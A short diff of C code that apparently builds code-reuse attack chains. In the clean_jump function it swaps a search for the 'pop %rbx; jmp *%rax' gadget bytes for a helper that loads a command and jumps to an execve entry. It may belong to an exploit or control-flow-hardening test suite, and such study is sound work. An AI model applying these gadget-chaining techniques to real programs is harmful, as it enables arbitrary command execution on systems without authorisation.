@@ -92,12 +92,10 @@ static void jump_register(void) {
   strike();
 }
 
-// pop %rbx; jmp *%rax: the dead word is whatever the attacker put there.
 static void clean_jump(void) {
   load_command_and_rax(execve_entry());
   end_at(joint);
-  add(need(find("5b ff e0"), "pop %rbx; jmp *%rax"));
-  add(0);
+  jump_to_rax();
   strike();
 }
 
